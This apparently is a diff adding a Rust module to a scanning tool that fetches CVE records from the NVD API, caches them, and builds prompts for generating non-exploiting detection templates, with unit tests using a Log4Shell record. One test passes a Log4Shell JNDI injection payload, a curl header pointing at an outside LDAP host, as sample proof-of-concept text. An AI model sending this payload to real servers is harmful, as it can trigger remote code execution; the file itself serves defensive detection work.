@@ -0,0 +1,580 @@
+//! CVE-driven template generation
+//!
+//! `cxg ai generate --from-cve <CVE-ID>` fetches the CVE record from the NVD
+//! API and turns it, together with an optional `--poc-file`, into a precise
+//! generation prompt: description, affected components, impact and PoC.
+//! NVD responses are cached under `~/.cert-x-gen/cve-cache/` for
+//! [`CACHE_TTL`].
+
+use anyhow::{bail, Context, Result};
+use reqwest::Client;
+use serde::Deserialize;
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+use tracing::debug;
+
+/// NVD CVE API 2.0 endpoint
+pub const NVD_API_URL: &str = "https://services.nvd.nist.gov/rest/json/cves/2.0";
+
+/// How long a cached NVD response is used before fetching it again
+pub const CACHE_TTL: Duration = Duration::from_secs(24 * 60 * 60);
+
+/// PoC characters included in the prompt; longer files are truncated
+const MAX_POC_CHARS: usize = 8000;
+
+/// References listed in the prompt
+const MAX_REFERENCES: usize = 5;
+
+/// The parts of an NVD CVE record used to build a generation prompt
+#[derive(Debug, Clone, PartialEq)]
+pub struct CveRecord {
+    /// CVE identifier, e.g. `CVE-2021-44228`
+    pub id: String,
+    /// English description
+    pub description: String,
+    /// Highest-version CVSS base score
+    pub cvss_score: Option<f64>,
+    /// CVSS base severity (`CRITICAL`, `HIGH`, ...)
+    pub severity: Option<String>,
+    /// CVSS vector string
+    pub cvss_vector: Option<String>,
+    /// CWE identifiers
+    pub weaknesses: Vec<String>,
+    /// Vulnerable products with version ranges, e.g. `apache log4j (>= 2.0.1, < 2.3.1)`
+    pub affected: Vec<String>,
+    /// Reference URLs
+    pub references: Vec<String>,
+}
+
+impl CveRecord {
+    /// Parse an NVD API 2.0 response holding `cve_id`
+    pub fn from_nvd_json(cve_id: &str, body: &str) -> Result<Self> {
+        let response: NvdResponse =
+            serde_json::from_str(body).context("Invalid NVD API response")?;
+        let cve = response
+            .vulnerabilities
+            .into_iter()
+            .map(|v| v.cve)
+            .find(|cve| cve.id.eq_ignore_ascii_case(cve_id))
+            .with_context(|| format!("{} not found in the NVD", cve_id))?;
+
+        let description = cve
+            .descriptions
+            .iter()
+            .find(|d| d.lang == "en")
+            .or(cve.descriptions.first())
+            .map(|d| d.value.trim().to_string())
+            .unwrap_or_default();
+
+        let metric = [
+            &cve.metrics.cvss_v31,
+            &cve.metrics.cvss_v30,
+            &cve.metrics.cvss_v2,
+        ]
+        .into_iter()
+        .find_map(|metrics| {
+            metrics
+                .iter()
+                .find(|m| m.kind == "Primary")
+                .or(metrics.first())
+        });
+
+        let mut weaknesses: Vec<String> = cve
+            .weaknesses
+            .iter()
+            .flat_map(|w| &w.description)
+            .map(|d| d.value.clone())
+            .filter(|cwe| cwe.starts_with("CWE-"))
+            .collect();
+        weaknesses.dedup();
+
+        let mut affected = Vec::new();
+        for cpe in cve
+            .configurations
+            .iter()
+            .flat_map(|c| &c.nodes)
+            .flat_map(|n| &n.cpe_match)
+            .filter(|m| m.vulnerable)
+        {
+            if let Some(component) = cpe.component() {
+                if !affected.contains(&component) {
+                    affected.push(component);
+                }
+            }
+        }
+
+        Ok(Self {
+            id: cve.id,
+            description,
+            cvss_score: metric.map(|m| m.cvss_data.base_score),
+            severity: metric.and_then(|m| {
+                m.cvss_data
+                    .base_severity
+                    .clone()
+                    .or_else(|| m.base_severity.clone())
+            }),
+            cvss_vector: metric.map(|m| m.cvss_data.vector_string.clone()),
+            weaknesses,
+            affected,
+            references: cve.references.into_iter().map(|r| r.url).collect(),
+        })
+    }
+
+    /// Generation prompt for this CVE, with an optional proof of concept
+    pub fn to_prompt(&self, poc: Option<&str>) -> String {
+        let mut prompt = format!(
+            "Create a detection template for {}.\n\nVulnerability: {}\n",
+            self.id, self.description
+        );
+
+        if !self.affected.is_empty() {
+            prompt.push_str(&format!("Affected: {}\n", self.affected.join("; ")));
+        }
+        match (&self.severity, self.cvss_score) {
+            (Some(severity), Some(score)) => {
+                prompt.push_str(&format!("Impact: {} (CVSS {:.1}", severity, score));
+                if let Some(vector) = &self.cvss_vector {
+                    prompt.push_str(&format!(", {}", vector));
+                }
+                prompt.push_str(")\n");
+            }
+            (None, Some(score)) => prompt.push_str(&format!("Impact: CVSS {:.1}\n", score)),
+            _ => {}
+        }
+        if !self.weaknesses.is_empty() {
+            prompt.push_str(&format!("Weakness: {}\n", self.weaknesses.join(", ")));
+        }
+        if !self.references.is_empty() {
+            prompt.push_str("References:\n");
+            for url in self.references.iter().take(MAX_REFERENCES) {
+                prompt.push_str(&format!("- {}\n", url));
+            }
+        }
+
+        if let Some(poc) = poc.map(str::trim).filter(|p| !p.is_empty()) {
+            let truncated: String = poc.chars().take(MAX_POC_CHARS).collect();
+            prompt.push_str(
+                "\nProof of concept (shows how the issue is triggered; the template must \
+                 detect the vulnerability without exploiting it):\n```\n",
+            );
+            prompt.push_str(&truncated);
+            if truncated.len() < poc.len() {
+                prompt.push_str("\n... (truncated)");
+            }
+            prompt.push_str("\n```\n");
+        }
+
+        prompt.push_str(&format!(
+            "\nDetect affected versions from banners, headers or safe probes, and reference {} \
+             in the template metadata.",
+            self.id
+        ));
+        prompt
+    }
+}
+
+/// Normalize and check a CVE identifier (`cve-2021-44228` becomes `CVE-2021-44228`)
+pub fn normalize_cve_id(cve_id: &str) -> Result<String> {
+    let id = cve_id.trim().to_uppercase();
+    let valid = id
+        .strip_prefix("CVE-")
+        .and_then(|rest| rest.split_once('-'))
+        .is_some_and(|(year, number)| {
+            year.len() == 4
+                && number.len() >= 4
+                && year.chars().all(|c| c.is_ascii_digit())
+                && number.chars().all(|c| c.is_ascii_digit())
+        });
+    if !valid {
+        bail!("Invalid CVE ID '{}' (expected CVE-YYYY-NNNN)", cve_id);
+    }
+    Ok(id)
+}
+
+/// Fetches CVE records from the NVD API, through a local file cache
+#[derive(Debug, Clone)]
+pub struct NvdClient {
+    base_url: String,
+    api_key: Option<String>,
+    cache_dir: Option<PathBuf>,
+    client: Client,
+}
+
+impl NvdClient {
+    /// Client for the public NVD API, caching in `~/.cert-x-gen/cve-cache/`
+    ///
+    /// `NVD_API_KEY` raises the NVD rate limit when set.
+    pub fn new() -> Self {
+        let client = Client::builder()
+            .timeout(Duration::from_secs(30))
+            .build()
+            .expect("Failed to build HTTP client");
+
+        Self {
+            base_url: NVD_API_URL.to_string(),
+            api_key: std::env::var("NVD_API_KEY").ok().filter(|k| !k.is_empty()),
+            cache_dir: dirs::home_dir().map(|home| home.join(".cert-x-gen").join("cve-cache")),
+            client,
+        }
+    }
+
+    /// Use another API endpoint (a mirror, or a mock in tests)
+    pub fn with_base_url(mut self, base_url: impl Into<String>) -> Self {
+        self.base_url = base_url.into();
+        self
+    }
+
+    /// Cache responses in `dir` (`None` disables caching)
+    pub fn with_cache_dir(mut self, dir: Option<PathBuf>) -> Self {
+        self.cache_dir = dir;
+        self
+    }
+
+    /// Fetch `cve_id`, from the cache when a response younger than [`CACHE_TTL`] exists
+    pub async fn fetch(&self, cve_id: &str) -> Result<CveRecord> {
+        let cve_id = normalize_cve_id(cve_id)?;
+        let cache_file = self
+            .cache_dir
+            .as_ref()
+            .map(|dir| dir.join(format!("{}.json", cve_id)));
+
+        if let Some(body) = cache_file.as_deref().and_then(read_fresh) {
+            debug!("Using cached NVD response for {}", cve_id);
+            return CveRecord::from_nvd_json(&cve_id, &body);
+        }
+
+        debug!("Fetching {} from {}", cve_id, self.base_url);
+        let mut request = self
+            .client
+            .get(&self.base_url)
+            .query(&[("cveId", cve_id.as_str())]);
+        if let Some(key) = &self.api_key {
+            request = request.header("apiKey", key);
+        }
+        let response = request
+            .send()
+            .await
+            .context("Failed to reach the NVD API")?;
+        let status = response.status();
+        if !status.is_success() {
+            bail!("NVD API returned {} for {}", status, cve_id);
+        }
+        let body = response
+            .text()
+            .await
+            .context("Failed to read the NVD API response")?;
+
+        // Parse before caching so errors are not cached
+        let record = CveRecord::from_nvd_json(&cve_id, &body)?;
+        if let Some(file) = &cache_file {
+            if let Err(e) = write_cache(file, &body) {
+                debug!("Failed to cache NVD response: {}", e);
+            }
+        }
+        Ok(record)
+    }
+}
+
+impl Default for NvdClient {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+/// Cached body of `file` if it was written less than [`CACHE_TTL`] ago
+fn read_fresh(file: &Path) -> Option<String> {
+    let age = std::fs::metadata(file)
+        .ok()?
+        .modified()
+        .ok()?
+        .elapsed()
+        .ok()?;
+    if age >= CACHE_TTL {
+        return None;
+    }
+    std::fs::read_to_string(file).ok()
+}
+
+fn write_cache(file: &Path, body: &str) -> std::io::Result<()> {
+    if let Some(dir) = file.parent() {
+        std::fs::create_dir_all(dir)?;
+    }
+    std::fs::write(file, body)
+}
+
+// NVD API 2.0 response, reduced to the fields used above
+
+#[derive(Debug, Deserialize)]
+struct NvdResponse {
+    #[serde(default)]
+    vulnerabilities: Vec<NvdVulnerability>,
+}
+
+#[derive(Debug, Deserialize)]
+struct NvdVulnerability {
+    cve: NvdCve,
+}
+
+#[derive(Debug, Deserialize)]
+struct NvdCve {
+    id: String,
+    #[serde(default)]
+    descriptions: Vec<NvdText>,
+    #[serde(default)]
+    metrics: NvdMetrics,
+    #[serde(default)]
+    weaknesses: Vec<NvdWeakness>,
+    #[serde(default)]
+    configurations: Vec<NvdConfiguration>,
+    #[serde(default)]
+    references: Vec<NvdReference>,
+}
+
+#[derive(Debug, Deserialize)]
+struct NvdText {
+    lang: String,
+    value: String,
+}
+
+#[derive(Debug, Default, Deserialize)]
+struct NvdMetrics {
+    #[serde(default, rename = "cvssMetricV31")]
+    cvss_v31: Vec<NvdCvssMetric>,
+    #[serde(default, rename = "cvssMetricV30")]
+    cvss_v30: Vec<NvdCvssMetric>,
+    #[serde(default, rename = "cvssMetricV2")]
+    cvss_v2: Vec<NvdCvssMetric>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct NvdCvssMetric {
+    #[serde(default, rename = "type")]
+    kind: String,
+    cvss_data: NvdCvssData,
+    /// CVSS v2 keeps the severity next to `cvssData`
+    #[serde(default)]
+    base_severity: Option<String>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct NvdCvssData {
+    #[serde(default)]
+    vector_string: String,
+    base_score: f64,
+    #[serde(default)]
+    base_severity: Option<String>,
+}
+
+#[derive(Debug, Deserialize)]
+struct NvdReference {
+    url: String,
+}
+
+#[derive(Debug, Deserialize)]
+struct NvdWeakness {
+    #[serde(default)]
+    description: Vec<NvdText>,
+}
+
+#[derive(Debug, Deserialize)]
+struct NvdConfiguration {
+    #[serde(default)]
+    nodes: Vec<NvdNode>,
+}
+
+#[derive(Debug, Deserialize)]
+struct NvdNode {
+    #[serde(default, rename = "cpeMatch")]
+    cpe_match: Vec<NvdCpeMatch>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct NvdCpeMatch {
+    #[serde(default)]
+    vulnerable: bool,
+    criteria: String,
+    version_start_including: Option<String>,
+    version_start_excluding: Option<String>,
+    version_end_including: Option<String>,
+    version_end_excluding: Option<String>,
+}
+
+impl NvdCpeMatch {
+    /// `vendor product` with the affected version range, from the CPE 2.3 criteria
+    fn component(&self) -> Option<String> {
+        let parts: Vec<&str> = self.criteria.split(':').collect();
+        let (vendor, product) = (parts.get(3)?, parts.get(4)?);
+        let version = parts.get(5).copied().filter(|v| !matches!(*v, "*" | "-"));
+
+        let mut range: Vec<String> = Vec::new();
+        if let Some(v) = &self.version_start_including {
+            range.push(format!(">= {}", v));
+        }
+        if let Some(v) = &self.version_start_excluding {
+            range.push(format!("> {}", v));
+        }
+        if let Some(v) = &self.version_end_including {
+            range.push(format!("<= {}", v));
+        }
+        if let Some(v) = &self.version_end_excluding {
+            range.push(format!("< {}", v));
+        }
+
+        let name = format!("{} {}", vendor, product).replace('_', " ");
+        Some(match (version, range.is_empty()) {
+            (Some(version), _) => format!("{} {}", name, version),
+            (None, false) => format!("{} ({})", name, range.join(", ")),
+            (None, true) => name,
+        })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use wiremock::matchers::{method, query_param};
+    use wiremock::{Mock, MockServer, ResponseTemplate};
+
+    fn log4shell() -> serde_json::Value {
+        serde_json::json!({
+            "resultsPerPage": 1,
+            "totalResults": 1,
+            "format": "NVD_CVE",
+            "version": "2.0",
+            "vulnerabilities": [{
+                "cve": {
+                    "id": "CVE-2021-44228",
+                    "descriptions": [
+                        {"lang": "es", "value": "Apache Log4j2 ..."},
+                        {"lang": "en", "value": "Apache Log4j2 JNDI features do not protect against attacker controlled LDAP endpoints."}
+                    ],
+                    "metrics": {
+                        "cvssMetricV31": [{
+                            "source": "nvd@nist.gov",
+                            "type": "Primary",
+                            "cvssData": {
+                                "version": "3.1",
+                                "vectorString": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H",
+                                "baseScore": 10.0,
+                                "baseSeverity": "CRITICAL"
+                            }
+                        }],
+                        "cvssMetricV2": [{
+                            "type": "Primary",
+                            "cvssData": {"vectorString": "AV:N/AC:M/Au:N/C:C/I:C/A:C", "baseScore": 9.3},
+                            "baseSeverity": "HIGH"
+                        }]
+                    },
+                    "weaknesses": [{
+                        "type": "Primary",
+                        "description": [{"lang": "en", "value": "CWE-502"}, {"lang": "en", "value": "CWE-400"}]
+                    }],
+                    "configurations": [{
+                        "nodes": [{
+                            "operator": "OR",
+                            "cpeMatch": [
+                                {
+                                    "vulnerable": true,
+                                    "criteria": "cpe:2.3:a:apache:log4j:*:*:*:*:*:*:*:*",
+                                    "versionStartIncluding": "2.0.1",
+                                    "versionEndExcluding": "2.3.1"
+                                },
+                                {
+                                    "vulnerable": true,
+                                    "criteria": "cpe:2.3:a:apache:log4j:2.0:beta9:*:*:*:*:*:*"
+                                },
+                                {
+                                    "vulnerable": false,
+                                    "criteria": "cpe:2.3:o:debian:debian_linux:10.0:*:*:*:*:*:*:*"
+                                }
+                            ]
+                        }]
+                    }],
+                    "references": [
+                        {"url": "https://logging.apache.org/log4j/2.x/security.html"}
+                    ]
+                }
+            }]
+        })
+    }
+
+    #[test]
+    fn test_parse_nvd_response() {
+        let record = CveRecord::from_nvd_json("CVE-2021-44228", &log4shell().to_string()).unwrap();
+        assert_eq!(record.id, "CVE-2021-44228");
+        assert!(record.description.starts_with("Apache Log4j2 JNDI"));
+        assert_eq!(record.cvss_score, Some(10.0));
+        assert_eq!(record.severity.as_deref(), Some("CRITICAL"));
+        assert_eq!(record.weaknesses, vec!["CWE-502", "CWE-400"]);
+        assert_eq!(
+            record.affected,
+            vec!["apache log4j (>= 2.0.1, < 2.3.1)", "apache log4j 2.0"]
+        );
+
+        assert!(CveRecord::from_nvd_json("CVE-2099-0001", &log4shell().to_string()).is_err());
+    }
+
+    #[test]
+    fn test_prompt_includes_impact_component_and_poc() {
+        let record = CveRecord::from_nvd_json("CVE-2021-44228", &log4shell().to_string()).unwrap();
+        let prompt = record.to_prompt(Some("curl -H 'X-Api-Version: ${jndi:ldap://x/a}' $TARGET"));
+
+        assert!(prompt.contains("Create a detection template for CVE-2021-44228"));
+        assert!(prompt.contains("Affected: apache log4j (>= 2.0.1, < 2.3.1)"));
+        assert!(prompt.contains("Impact: CRITICAL (CVSS 10.0, CVSS:3.1/AV:N"));
+        assert!(prompt.contains("Weakness: CWE-502"));
+        assert!(prompt.contains("${jndi:ldap://x/a}"));
+        assert!(!record.to_prompt(None).contains("Proof of concept"));
+    }
+
+    #[test]
+    fn test_normalize_cve_id() {
+        assert_eq!(
+            normalize_cve_id(" cve-2021-44228 ").unwrap(),
+            "CVE-2021-44228"
+        );
+        assert!(normalize_cve_id("CVE-21-44228").is_err());
+        assert!(normalize_cve_id("log4shell").is_err());
+    }
+
+    #[tokio::test]
+    async fn test_fetch_caches_nvd_response() {
+        let server = MockServer::start().await;
+        Mock::given(method("GET"))
+            .and(query_param("cveId", "CVE-2021-44228"))
+            .respond_with(ResponseTemplate::new(200).set_body_json(log4shell()))
+            .expect(1)
+            .mount(&server)
+            .await;
+
+        let cache = tempfile::tempdir().unwrap();
+        let client = NvdClient::new()
+            .with_base_url(server.uri())
+            .with_cache_dir(Some(cache.path().to_path_buf()));
+
+        let fetched = client.fetch("cve-2021-44228").await.unwrap();
+        assert!(cache.path().join("CVE-2021-44228.json").exists());
+
+        // Served from the cache: the mock expects a single request
+        let cached = client.fetch("CVE-2021-44228").await.unwrap();
+        assert_eq!(fetched, cached);
+    }
+
+    #[tokio::test]
+    async fn test_fetch_reports_nvd_errors() {
+        let server = MockServer::start().await;
+        Mock::given(method("GET"))
+            .respond_with(ResponseTemplate::new(403))
+            .mount(&server)
+            .await;
+
+        let client = NvdClient::new()
+            .with_base_url(server.uri())
+            .with_cache_dir(None);
+        let err = client.fetch("CVE-2021-44228").await.unwrap_err();
+        assert!(err.to_string().contains("403"));
+    }
+}